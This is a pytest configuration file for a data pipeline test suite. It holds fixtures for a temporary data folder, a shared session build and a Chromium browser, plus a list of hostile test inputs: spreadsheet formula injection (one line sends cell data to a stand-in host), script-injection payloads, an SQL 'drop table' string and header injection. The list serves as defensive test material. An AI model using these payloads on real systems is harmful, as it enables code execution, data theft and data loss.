"""What the tests share: a data folder of their own, and the built world."""

import fcntl
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import hypothesis
import pytest
from browser import ARGUMENTS, CHROMIUM
from playwright.sync_api import Browser, sync_playwright

# No deadline: the machine is shared, and a slow example is no error.
hypothesis.settings.register_profile("suite", deadline=None)
hypothesis.settings.load_profile("suite")

ROOT = Path(__file__).resolve().parents[1]
REAL_DATA = ROOT.parent / "shared" / "data"
# Real file → depot folder that takes it.
REAL_FILES = {
    "services_publics_plus_experiences.csv": "services_publics_plus",
    "ssmsi_delinquance_departement_2016_2024.csv": "ssmsi",
    "services_publics_plus_structures.csv": "structures",
    "perceval_sample.json": "perceval",
}
# What people may write, or name a file, to have it run by whoever reads it: a shell, a spreadsheet,
# a browser, a database, a template.
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://ailleurs.example/?"&A1;"lire")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "<script>window.hostile = 1</script>",
    "\"><img data-hostile src=x onerror='window.hostile = 1'>",
    "<svg/onload=window.hostile=1>",
    "[lire](javascript:window.hostile=1)",
    "'; drop table marts.fct_avis; --",
    "{{ env_var('DAGSTER_HOME') }}",
    "${window.hostile = 1}{@html 1}{window.hostile = 1}",
    "mot" * 400,
    "\u202eenvers\u202c\u200b\ufeff sans\u2060largeur",
    "%00%0d%0aSet-Cookie: a=1",
    "👩‍👩‍👧 ﷽ Z̸̛͓a̴l̵g̶o",
)


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Put first the file that builds the world, and last those that would wait for it meanwhile."""
    waiting = {item.path for item in items if "built" in getattr(item, "fixturenames", ())}
    items.sort(key=lambda item: (item.path.stem != "test_reports", item.path in waiting))


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty data folder, the one that the system writes to during the test."""
    monkeypatch.setenv("CYBERIMPACT_DATA", str(tmp_path))
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster"))
    return tmp_path


def drop_real_files(data: Path) -> None:
    """Put the real open data into the depot, or skip where it is not at hand."""
    if not REAL_DATA.is_dir():
        pytest.skip("the real open data is not at hand")
    for file, source in REAL_FILES.items():
        folder = data / "depot" / source
        folder.mkdir(parents=True, exist_ok=True)
        shutil.copy(REAL_DATA / file, folder)


# `python -m orchestration`, in a world of so many months where so much happens.
COMMAND = """
from dlt_pipelines import sandbox
from orchestration.__main__ import main
whole = sandbox.world
sandbox.world = lambda: whole(months={months}, size={size})
raise SystemExit(main())
"""


def build(data: Path, months: int = 24, size: float = 1) -> subprocess.CompletedProcess[str]:
    """Run the main job on a data folder, as `make build` does."""
    return subprocess.run(
        [sys.executable, "-c", COMMAND.format(months=months, size=size), "build"],
        cwd=ROOT,
        env={**os.environ, "CYBERIMPACT_DATA": str(data)},
        capture_output=True,
        text=True,
        timeout=1800,
        check=False,
    )


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder built whole from the sandbox, once for all processes; tests only read it."""
    base = tmp_path_factory.getbasetemp()
    folder = (base.parent if "PYTEST_XDIST_WORKER" in os.environ else base) / "built"
    with folder.with_suffix(".lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (said := folder.with_suffix(".error")).exists():
            said.write_text("the world was never built to its end")
            if (outcome := build(folder)).returncode:
                said.write_text(outcome.stdout[-4000:] + outcome.stderr[-4000:])
            else:
                said.write_text("")
    assert not said.read_text(), said.read_text()
    return folder


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A browser for one file: while Playwright runs, its process can run no other event loop."""
    if not CHROMIUM.exists():
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing: install Debian's package chromium")
        pytest.skip(f"{CHROMIUM} is missing")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()
